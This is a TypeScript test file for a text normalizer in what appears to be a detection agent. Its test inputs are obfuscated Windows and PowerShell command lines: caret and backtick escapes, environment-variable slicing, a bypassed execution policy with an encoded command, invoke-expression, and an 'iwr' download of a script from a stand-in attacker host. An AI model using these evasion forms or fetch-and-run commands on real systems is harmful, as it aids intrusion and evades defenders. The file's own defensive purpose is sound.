import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { NormalText, normalTextCapacity } from '../../../src/problemchild/agent-v1/normal-text.ts';
import { spellOut } from '../../../src/problemchild/agent-v1/symbols.ts';

const text = new NormalText();

function normalize(raw: string): string {
  text.clear();
  text.append(raw, 0);
  return spellOut(text.toString()).trim();
}

describe('normal text', () => {
  test.each([
    ['upper case and quotes', '"CMD.EXE" /C "Whoami"', 'cmd -c whoami'],
    ['carets', 'c^md /c w^hoam^i', 'cmd -c whoami'],
    ['backticks', 'I`E`X ($a)', 'iex ($a)'],
    ['spaces', 'net    user\t\tbob', 'net user bob'],
    ['a known variable', '%COMSPEC% /c echo', 'c:\\windows\\system32\\cmd -c echo'],
    ['a variable that an export doubled', '%%comspec%% /c echo', 'c:\\windows\\system32\\cmd -c echo'],
    ['a part of a variable', '%comspec:~-7,3% /c whoami', 'cmd -c whoami'],
    ['a PowerShell variable', '$env:windir\\system32\\calc.exe', 'c:\\windows\\system32\\calc'],
    ['an unknown variable inside a word', 'po%zz%wershell -c ls', 'powershell -c ls'],
    ['joined strings', "'Down' + 'load'+'String'", 'downloadstring'],
    [
      'options of PowerShell',
      'powershell -NoProf -ExecutionPolicy Bypass -EncodedC x',
      'powershell -nop -ep bypass -enc x',
    ],
    ['options of others', 'foo -noprof', 'foo -noprof'],
    ['slashes of options and paths', 'reg add /v a c:/windows/temp', 'reg add -v a c:\\windows\\temp'],
    ['a user name', 'type C:\\Users\\John Smith\\a.txt', 'type c:\\users\\<user>\\a.txt'],
    ['the public user', 'c:\\users\\public\\a', 'c:\\users\\public\\a'],
    [
      'numbers and addresses',
      'ping 10.1.2.3 8.8.8.8 127.0.0.1 -n 12 4444',
      'ping <private-ip> <ip> <loopback> -n 12 <number>',
    ],
    ['a GUID', '{4ED3A719-CEA8-4BD9-910D-E252F997AFC2}', '{<guid>}'],
    ['a hash', 'deadbeef01deadbeef01', '<hex>'],
    ['a URL', 'iwr http://evil.example.com/a/b/c.ps1?x=1', 'iwr http://host\\.ps1'],
    ['a share', 'copy \\\\srv\\c$\\x .', 'copy \\\\srv\\c$\\x .'],
    ['entities of XML', 'a &gt; b &amp; c', 'a > b & c'],
    ['look-alikes', 'powershell \u2013enc \uff41', 'powershell -enc a'],
    ['invisible characters', 'who\u200bami', 'whoami'],
  ])('%s', (_, raw, expected) => {
    expect(normalize(raw)).toBe(expected);
  });

  test('stays within its buffer and below 128 whatever comes', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 3000 }), (raw) => {
        normalize(raw);
        expect(text.length).toBeLessThanOrEqual(normalTextCapacity);
        for (let i = 0; i < text.length; i++) expect(text.bytes[i]).toBeLessThan(128);
      }),
      { numRuns: 200 },
    );
  });

  test('reads a line the same after any other line', () => {
    fc.assert(
      fc.property(fc.string(), fc.string(), (first, second) => {
        const alone = normalize(second);
        normalize(first);
        expect(normalize(second)).toBe(alone);
      }),
    );
  });
});
